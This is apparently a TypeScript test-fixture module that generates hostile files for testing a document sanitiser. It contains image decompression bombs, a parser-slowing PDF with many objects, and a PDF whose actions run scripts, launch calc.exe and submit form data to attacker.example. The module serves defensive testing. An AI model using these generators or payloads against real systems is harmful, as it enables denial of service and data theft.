/**
 * Hostile files for the document tests, made at test time from their formats' specifications:
 * image "bombs" (a few hundred bytes that declare a picture of hundreds of millions of pixels) and
 * PDFs carrying scripts and actions. The HEIC ones reuse the one HEVC tile of
 * `tests/fixtures/documents/photo.heic` (nothing in the npm registry encodes HEVC), so a decoder
 * really can open them: the bomb is real, not only its header.
 */
import { readFileSync } from "node:fs";
import { crc32, deflateSync } from "node:zlib";

// ------------------------------------------------------------------------------------ HEIC/HEIF

function u8(n: number) {
  return Buffer.from([n]);
}
function u16(n: number) {
  const b = Buffer.alloc(2);
  b.writeUInt16BE(n);
  return b;
}
function u32(n: number) {
  const b = Buffer.alloc(4);
  b.writeUInt32BE(n);
  return b;
}
/** An ISO base media file format box (ISO/IEC 14496-12 §4.2). */
function box(type: string, ...content: Buffer[]): Buffer {
  const body = Buffer.concat(content);
  return Buffer.concat([u32(8 + body.length), Buffer.from(type, "latin1"), body]);
}
function fullBox(type: string, version: number, flags: number, ...content: Buffer[]): Buffer {
  return box(
    type,
    u8(version),
    Buffer.from([flags >> 16, (flags >> 8) & 255, flags & 255]),
    ...content,
  );
}

/** The HEVC tile of the test photo: its decoder configuration box (hvcC) and coded data. */
function photoTile(): { hvcC: Buffer; data: Buffer } {
  const photo = readFileSync(new URL("../fixtures/documents/photo.heic", import.meta.url));
  const hvcAt = photo.indexOf("hvcC") - 4;
  const hvcC = photo.subarray(hvcAt, hvcAt + photo.readUInt32BE(hvcAt));
  // The tile is item 1; its one extent is in iloc (version 1, 4-byte offsets, lengths and base
  // offsets), whose first entry is item 1: id, construction method, data reference, base offset,
  // extent count, extent offset, extent length.
  const iloc = photo.indexOf("iloc") + 4;
  const entry = iloc + 4 + 2 + 2;
  if (photo.readUInt16BE(entry) !== 1) throw new Error("photo.heic: item 1 is not first in iloc");
  const base = photo.readUInt32BE(entry + 6);
  const offset = photo.readUInt32BE(entry + 12);
  const length = photo.readUInt32BE(entry + 16);
  return { hvcC, data: photo.subarray(base + offset, base + offset + length) };
}

export interface HeicBombOptions {
  /** How the primary picture is made: the tile itself, a grid of it, or an overlay canvas. */
  derivation: "none" | "grid" | "iovl";
  /** The grid's or overlay's output canvas (ISO/IEC 23008-12 §6.6.2.3, §6.6.2.4). */
  canvas?: [number, number];
  /** What the primary item's `ispe` property claims (which may be a lie). */
  ispe: [number, number];
}

/**
 * A HEIC file (ISO/IEC 23008-12) whose primary picture is the 64 × 64 HEVC tile of the test photo,
 * alone or placed on a grid or overlay canvas of the given size. A decoder allocates the canvas
 * before it places the tile: 16000 × 16000 is a gigabyte, from a file under a kilobyte.
 */
export function heicBomb(options: HeicBombOptions): Buffer {
  const { hvcC, data } = photoTile();
  const derived = options.derivation !== "none";
  const [cw, ch] = options.canvas ?? options.ispe;
  const large = cw > 0xffff || ch > 0xffff ? 1 : 0;
  const dims = large ? Buffer.concat([u32(cw), u32(ch)]) : Buffer.concat([u16(cw), u16(ch)]);
  const derivationData =
    options.derivation === "grid"
      ? Buffer.concat([u8(0), u8(large), u8(0), u8(0), dims])
      : Buffer.concat([
          u8(0),
          u8(large),
          u16(0xffff),
          u16(0xffff),
          u16(0xffff),
          u16(0xffff),
          dims,
          u16(0),
          u16(0),
        ]);
  const ispe = (w: number, h: number) => fullBox("ispe", 0, 0, u32(w), u32(h));
  // A derived picture's tile is hidden (flags 1): the file shows only the canvas.
  const infe = (id: number, type: string, hidden = false) =>
    fullBox("infe", 2, hidden ? 1 : 0, u16(id), u16(0), Buffer.from(type, "latin1"), u8(0));
  const tileId = 1;
  const primaryId = derived ? 2 : 1;
  const meta = (tileOffset: number) => {
    const items = derived
      ? [infe(1, "hvc1", true), infe(2, options.derivation)]
      : [infe(1, "hvc1")];
    const locations = [
      Buffer.concat([u16(tileId), u16(0), u16(0), u16(1), u32(tileOffset), u32(data.length)]),
      ...(derived
        ? [Buffer.concat([u16(2), u16(1), u16(0), u16(1), u32(0), u32(derivationData.length)])]
        : []),
    ];
    const properties = derived
      ? [hvcC, ispe(64, 64), ispe(...options.ispe)]
      : [hvcC, ispe(...options.ispe)];
    const associations = derived
      ? [Buffer.concat([u16(1), u8(2), u8(0x81), u8(2)]), Buffer.concat([u16(2), u8(1), u8(3)])]
      : [Buffer.concat([u16(1), u8(2), u8(0x81), u8(2)])];
    return fullBox(
      "meta",
      0,
      0,
      fullBox("hdlr", 0, 0, u32(0), Buffer.from("pict", "latin1"), Buffer.alloc(12), u8(0)),
      fullBox("pitm", 0, 0, u16(primaryId)),
      fullBox("iloc", 1, 0, u8(0x44), u8(0), u16(locations.length), ...locations),
      fullBox("iinf", 0, 0, u16(items.length), ...items),
      ...(derived ? [fullBox("iref", 0, 0, box("dimg", u16(2), u16(1), u16(1)))] : []),
      box(
        "iprp",
        box("ipco", ...properties),
        fullBox("ipma", 0, 0, u32(associations.length), ...associations),
      ),
      ...(derived ? [box("idat", derivationData)] : []),
    );
  };
  const ftyp = box(
    "ftyp",
    Buffer.from("heic", "latin1"),
    u32(0),
    Buffer.from("mif1heic", "latin1"),
  );
  const head = Buffer.concat([ftyp, meta(0)]);
  // The tile's data follows the mdat header; meta's length does not depend on the offset's value.
  const offset = head.length + 8;
  return Buffer.concat([ftyp, meta(offset), box("mdat", data)]);
}

// ------------------------------------------------------------------------------------------ PNG

function pngChunk(type: string, data: Buffer): Buffer {
  const typed = Buffer.concat([Buffer.from(type, "latin1"), data]);
  return Buffer.concat([u32(data.length), typed, u32(crc32(typed))]);
}

const pngSignature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** A PNG (ISO/IEC 15948) whose header declares width × height, with one tiny IDAT. */
export function pngDeclaring(width: number, height: number): Buffer {
  const ihdr = Buffer.concat([u32(width), u32(height), Buffer.from([8, 0, 0, 0, 0])]);
  return Buffer.concat([
    pngSignature,
    pngChunk("IHDR", ihdr),
    pngChunk("IDAT", deflateSync(Buffer.alloc(64))),
    pngChunk("IEND", Buffer.alloc(0)),
  ]);
}

/**
 * A real decompression bomb: a valid 1-bit greyscale PNG of width × height, every row present,
 * compressed to a few tens of kilobytes; a decoder expands it to a byte (or four) per pixel.
 */
export function pngBomb(width: number, height: number): Buffer {
  const row = Buffer.alloc(1 + Math.ceil(width / 8)); // filter byte 0, then all-black pixels
  const raw = Buffer.alloc(row.length * height);
  const ihdr = Buffer.concat([u32(width), u32(height), Buffer.from([1, 0, 0, 0, 0])]);
  return Buffer.concat([
    pngSignature,
    pngChunk("IHDR", ihdr),
    pngChunk("IDAT", deflateSync(raw, { level: 9 })),
    pngChunk("IEND", Buffer.alloc(0)),
  ]);
}

// ----------------------------------------------------------------------------------------- JPEG

/** A JPEG (ITU-T T.81) whose baseline frame header (SOF0) declares width × height. */
export function jpegDeclaring(width: number, height: number): Buffer {
  const sof = Buffer.concat([
    Buffer.from([0xff, 0xc0]),
    u16(17),
    u8(8),
    u16(height),
    u16(width),
    u8(3),
    Buffer.from([1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1]),
  ]);
  const app0 = Buffer.concat([
    Buffer.from([0xff, 0xe0]),
    u16(16),
    Buffer.from("JFIF\0", "latin1"),
    Buffer.from([1, 1, 0, 0, 1, 0, 1, 0, 0]),
  ]);
  const sos = Buffer.concat([
    Buffer.from([0xff, 0xda]),
    u16(12),
    u8(3),
    Buffer.from([1, 0, 2, 0x11, 3, 0x11, 0, 63, 0]),
  ]);
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    app0,
    sof,
    sos,
    Buffer.alloc(64),
    Buffer.from([0xff, 0xd9]),
  ]);
}

// ----------------------------------------------------------------------------------------- WebP

/** A WebP (RFC 9649) whose extended header (VP8X) declares a canvas of width × height. */
export function webpDeclaring(width: number, height: number): Buffer {
  const vp8x = Buffer.alloc(10);
  vp8x.writeUIntLE(width - 1, 4, 3);
  vp8x.writeUIntLE(height - 1, 7, 3);
  const chunk = Buffer.concat([Buffer.from("VP8X", "latin1"), Buffer.from([10, 0, 0, 0]), vp8x]);
  const size = Buffer.alloc(4);
  size.writeUInt32LE(4 + chunk.length);
  return Buffer.concat([Buffer.from("RIFF", "latin1"), size, Buffer.from("WEBP", "latin1"), chunk]);
}

// ------------------------------------------------------------------------------------------ PDF

/** A PDF from its objects (ISO 32000-1 §7.5), numbered from 1; `trailer` adds trailer entries. */
export function pdfOf(objects: string[], trailer = ""): Buffer {
  let body = "%PDF-1.7\n";
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(Buffer.byteLength(body, "latin1"));
    body += `${i + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = Buffer.byteLength(body, "latin1");
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) body += `${String(offset).padStart(10, "0")} 00000 n \n`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer}>>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, "latin1");
}

function stream(text: string): string {
  return `<< /Length ${text.length} >>\nstream\n${text}\nendstream`;
}

/** The text the hostile PDF's page shows, to check the page survives. */
export const hostilePdfText = "Statement of account";

/**
 * A PDF that runs JavaScript in a viewer: `app.alert` when it opens (/OpenAction), when its page
 * opens (the page's /AA, with the script in a stream), from the document's JavaScript name tree,
 * and when its link is clicked; a second link launches a program and a third is an ordinary web
 * link, which must survive.
 */
export function pdfWithScripts(): Buffer {
  return pdfOf([
    "<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 7 0 R >> /Names << /JavaScript 8 0 R >> >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /Annots [9 0 R 12 0 R 13 0 R] /AA << /O 7 0 R >> >>",
    stream(`BT /F1 18 Tf 40 700 Td (${hostilePdfText}) Tj ET`),
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    "<< /Type /Action /S /JavaScript /JS (app.alert\\('OpenAction ran: ' + this.URL\\)) >>",
    "<< /Type /Action /S /JavaScript /JS 10 0 R /Next 11 0 R >>",
    "<< /Names [(init) << /S /JavaScript /JS (app.alert\\('name tree ran'\\)) >>] >>",
    "<< /Type /Annot /Subtype /Link /Rect [40 600 300 620] /Border [0 0 0] /A << /S /JavaScript /JS (app.alert\\('link ran'\\)) >> >>",
    stream("app.alert('page open ran');"),
    "<< /Type /Action /S /SubmitForm /F << /FS /URL /F (https://attacker.example/collect) >> >>",
    "<< /Type /Annot /Subtype /Link /Rect [40 560 300 580] /Border [0 0 0] /A << /S /Launch /F (calc.exe) >> >>",
    "<< /Type /Annot /Subtype /Link /Rect [40 520 300 540] /Border [0 0 0] /A << /S /URI /URI (https://www.canada.ca/) >> >>",
  ]);
}

/** A PDF encrypted with the standard security handler (ISO 32000-1 §7.6.3): pdf-lib cannot read it. */
export function encryptedPdf(): Buffer {
  return pdfOf(
    [
      "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>",
      "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
      `<< /Filter /Standard /V 2 /R 3 /Length 128 /P -3904 /O <${"00".repeat(32)}> /U <${"00".repeat(32)}> >>`,
    ],
    `/Encrypt 4 0 R /ID [<${"11".repeat(16)}> <${"11".repeat(16)}>] `,
  );
}

/**
 * A valid one-page PDF followed by `count` trivial objects (an empty array each), with an exact
 * cross-reference table: a few MB that take pdf-lib seconds to read, one object at a time. Made in
 * a few tens of milliseconds.
 */
export function pdfOfManyObjects(count: number): Buffer {
  const parts = [
    "%PDF-1.7\n",
    "1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n",
    "2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n",
    "3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>\nendobj\n",
  ];
  for (let n = 4; n < count + 4; n++) parts.push(`${n} 0 obj\n[]\nendobj\n`);
  const offsets: string[] = [];
  let at = 0;
  for (const part of parts) {
    offsets.push(`${String(at).padStart(10, "0")} 00000 n \n`);
    at += part.length;
  }
  // The first offset is the header's, which is no object.
  const xref = `xref\n0 ${count + 4}\n0000000000 65535 f \n${offsets.slice(1).join("")}`;
  const trailer = `trailer\n<< /Size ${count + 4} /Root 1 0 R >>\nstartxref\n${at}\n%%EOF\n`;
  return Buffer.from(parts.join("") + xref + trailer, "latin1");
}
